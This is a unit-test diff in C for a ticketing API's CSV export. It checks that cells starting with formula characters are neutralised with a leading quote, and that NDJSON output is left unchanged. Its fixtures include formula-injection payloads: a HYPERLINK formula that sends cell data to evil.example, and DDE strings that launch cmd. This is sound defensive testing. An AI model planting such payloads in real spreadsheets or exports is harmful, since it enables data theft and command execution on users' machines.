@@ -499,6 +499,76 @@ test_client_hanging_up_mid_export (void **state)
    tk_api_fx_resp_free (&r);
 }
 
+/* Spreadsheets run a cell that starts with '=', '+', '-', '@', a tab or a
+ * CR as a formula: every text cell that does gets a leading "'" (OWASP),
+ * while numbers the export writes itself (a negative processing time
+ * included: a number is not a formula) and text starting otherwise are
+ * left alone. Runs last: it adds tickets (dated 2031, so the filter below
+ * finds only them). */
+static void
+test_csv_cells_cannot_run_formulas (void **state)
+{
+   (void) state;
+   int64_t t0;
+   assert_true (tk_time_parse_iso ("2031-01-01T00:00:00Z", 20, &t0));
+   static const struct {
+      const char *id, *subject, *body, *subject_csv, *body_csv;
+   } rows[] = {
+      {"X-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+       "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0"},
+      {"X-2", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+      {"X-3", "\tTAB=1", "\rCR=1", "'\tTAB=1", "'\rCR=1"},
+      {"@X-4", "-5 degrees in the server room", "a=b, and 1+1 stays", "'-5 degrees in the server room",
+       "a=b, and 1+1 stays"},
+      {"X-5", "Plain subject", " =not first", "Plain subject", " =not first"},
+   };
+   size_t n = sizeof rows / sizeof rows[0];
+   for (size_t i = 0; i < n; i++) {
+      tk_api_fx_seed (&fx, rows[i].id, rows[i].subject, rows[i].body, t0 + (int64_t) i * 1000);
+   }
+   /* A processed one: its labels and numbers are ours, the model name is
+    * text; a negative processing time stays a plain number. */
+   tk_api_fx_classify (&fx, "X-5", "SSO", NULL, "Neutral", "P2 (Low)", 0.5, 0.25, 1, -5,
+                       "=cmd|' /C calc'!A0", t0 + 60000);
+   tk_api_fx_resp_t r = get ("/api/tickets/export.csv?created_from=2031-01-01&sort=created_at",
+                             operator_key);
+   assert_int_equal (r.status, 200);
+   csv_t csv;
+   assert_true (csv_parse (r.body, r.body_len, &csv));
+   assert_int_equal (csv.n, n + 1);
+   for (size_t i = 0; i < n; i++) {
+      const row_t *row = &csv.rows[i + 1];
+      assert_int_equal (row->n, N_COLS);
+      assert_string_equal (row->fields[0], rows[i].id[0] == '@' ? "'@X-4" : rows[i].id);
+      assert_string_equal (row->fields[1], rows[i].subject_csv);
+      assert_string_equal (row->fields[2], rows[i].body_csv);
+   }
+   const row_t *p = &csv.rows[n];
+   assert_string_equal (p->fields[4], "true");
+   assert_string_equal (p->fields[7], "SSO");
+   assert_string_equal (p->fields[10], "0.5");
+   assert_string_equal (p->fields[11], "0.25");
+   assert_string_equal (p->fields[14], "'=cmd|' /C calc'!A0");
+   assert_string_equal (p->fields[15], "-5");
+   /* The raw text is in the CSV only behind the quote mark. */
+   assert_null (strstr (r.body, ",=HYPERLINK"));
+   assert_null (strstr (r.body, ",\"=HYPERLINK"));
+   csv_free (&csv);
+   tk_api_fx_resp_free (&r);
+
+   /* NDJSON is for programs: unchanged. */
+   r = get ("/api/tickets/export.ndjson?created_from=2031-01-01&sort=created_at", operator_key);
+   assert_int_equal (r.status, 200);
+   char *nl = strchr (r.body, '\n');
+   assert_non_null (nl);
+   *nl = '\0';
+   cJSON *j = cJSON_Parse (r.body);
+   assert_non_null (j);
+   assert_string_equal (cJSON_GetObjectItem (j, "subject")->valuestring, rows[0].subject);
+   cJSON_Delete (j);
+   tk_api_fx_resp_free (&r);
+}
+
 int
 main (void)
 {
@@ -508,6 +578,7 @@ main (void)
       cmocka_unit_test (test_ndjson_lists_every_ticket),
       cmocka_unit_test (test_client_hanging_up_mid_export),
       cmocka_unit_test (test_roles_and_audit),
+      cmocka_unit_test (test_csv_cells_cannot_run_formulas),
    };
    return cmocka_run_group_tests (tests, setup, teardown);
 }
